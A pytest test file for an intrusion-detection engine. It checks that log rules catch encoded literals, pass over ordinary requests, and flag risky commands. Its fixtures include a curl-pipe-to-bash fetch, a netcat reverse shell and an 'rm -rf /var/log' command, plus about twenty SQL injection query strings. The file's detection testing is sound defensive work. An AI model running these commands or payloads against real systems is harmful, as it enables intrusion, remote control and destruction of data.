"""What rules want of raw lines: no spelling of a literal is passed over, and ordinary lines are."""

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.agent.detect.engine import Detector
from vedette.agent.detect.rules import load
from vedette.agent.detect.types import Rule
from vedette.agent.detect.values import decoded
from vedette.agent.detect.wanting import HIDDEN, spelled
from vedette.instruments.logs.reading import Reader
from vedette.instruments.logs.registry import parsers
from vedette.instruments.logs.types import EntryKind, LogEntry

LITERALS = [text for rule in load() for clause in rule.when for name, each in clause.fields.items() if name == "target" for text in (*each.contains, *each.needs)]  # fmt: skip


@st.composite
def written(draw: st.DrawFn, literal: str) -> str:
    """A literal of a target as a client may write it and a log may escape it; never a `+` before the `?`."""
    spellings = []
    for character in literal:
        code = f"%{ord(character):02x}" if ord(character) < 0x100 else character
        ways = [code, code.upper(), code.replace("%", "%25")]
        if character not in "%+":
            ways.append(character if draw(st.booleans()) else character.upper())
        if character == '"':
            ways = [*ways[:3], '\\"', "\\x22"]
        spellings.append(draw(st.sampled_from(ways)))
    return "".join(spellings)


@settings(max_examples=50)
@given(st.data())
def test_a_literal_is_found_in_every_spelling_that_decodes_to_it(data: st.DataObject) -> None:
    literal = data.draw(st.sampled_from(LITERALS))
    target = f"/x?{data.draw(written(literal))}"
    if literal in decoded(target):
        assert re.search(f"{spelled(literal)}|{HIDDEN}", target, re.IGNORECASE), (literal, target)


@pytest.mark.parametrize(
    "line",
    [
        '192.0.2.7 - - [30/Sep/2021:09:58:05 +0200] "GET /static/js/app.3f2a.js HTTP/1.1" 200 1620 "https://app.example.com/" "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"',
        '192.0.2.7 - - [30/Sep/2021:09:58:05 +0200] "GET /api/v1/items?page=7 HTTP/1.1" 304 0 "-" "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15"',
        '192.0.2.7 - - [30/Sep/2021:09:58:05 +0200] "GET /login HTTP/1.1" 200 40 "https://www.example.com/login" "kube-probe/1.29"',
        '{"time":"2024-01-01T00:00:00+00:00","remote_addr":"192.0.2.7","method":"GET","uri":"/blog/how-to-drop-a-table-in-sql","status":200,"bytes":404040,"request_time":0.404}',
    ],
)  # fmt: skip
def test_ordinary_requests_are_passed_over(line: str, shipped: tuple[Rule, ...]) -> None:
    requests = Detector(shipped).wanted.requests
    assert requests is not None
    assert [pattern for pattern in requests if re.search(pattern, line, re.IGNORECASE)] == []


def test_kinds_that_no_rule_names_are_not_wanted(shipped: tuple[Rule, ...]) -> None:
    assert EntryKind.SESSION not in Detector(shipped).wanted.kinds


@pytest.mark.parametrize(
    ("command", "read"),
    [
        ("/usr/bin/systemctl restart app", False),
        ("/usr/bin/rsync -e ssh a b", False),
        ("/bin/sh -c CURL http://198.51.100.9/x | bash", True),
        ("/usr/bin/nc -e /bin/sh 198.51.100.9 4444", True),
        ("/bin/rm -rf /var/log", True),
    ],
)
@pytest.mark.parametrize("engine", ["hyperscan", "re2"])
def test_of_commands_only_those_that_a_rule_may_mean_are_read(
    command: str, read: bool, engine: str, shipped: tuple[Rule, ...], tmp_path: Path
) -> None:
    made = Detector([rule for rule in shipped if rule.set == "host"])
    line = f"Nov  2 15:40:14 w1 sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}\n"
    entries = [
        *Reader(parsers(), made.wanted, engine=engine, cache=tmp_path).entries(line.encode(), "x", 0.0)
    ]
    assert [each.fields for each in entries] == ([{"command": command}] if read else [])
    assert all(made.pour(each, each.at) for each in entries)


@pytest.mark.parametrize(
    "query",
    [
        "id=1+union+all+select+1", "id=1%20UNION%20SELECT%201", "id=1/**/union/**/select/**/1", "id=1%0aunion%0a(select%201)",
        "id=1+or+1=1", "id=1%20and%201=1", "id=1)+or+(1=1", "id=x%27+or+%27a%27=%27a", "id=x'or'a'='a", "id=x%27;drop+table+x",
        "id=x%27--+", "id=1%20order%20by%209--", "id=1+having+1=1", "id=1||1=1", "id=1%7c%7c1=1", "id=x%2527%2520or%25201=1",
        'id=x\\"+or+\\"a\\"=\\"a', "id=1+and+sleep(5)", "id=1;waitfor+delay+%270:0:5%27", "id=1%09or%091=1",
    ],
)  # fmt: skip
def test_injected_sql_is_wanted_as_it_is_met(query: str, shipped: tuple[Rule, ...]) -> None:
    made = Detector([rule for rule in shipped if rule.id == "web-sql-injection"])
    entry = LogEntry(
        parser="access", event="request", kind=EntryKind.REQUEST, service="http", at=0.0, address="192.0.2.7",
        fields={"path": "/x", "query": query},
    )  # fmt: skip
    met = bool(made.explain(entry, 0.0))
    wanted = any(
        re.search(each, f'"GET /x?{query} HTTP/1.1" 200', re.IGNORECASE)
        for each in made.wanted.requests or ()
    )
    assert wanted or not met, "what the rule meets is passed over unread"
    assert met or "||" in query or "%7c" in query
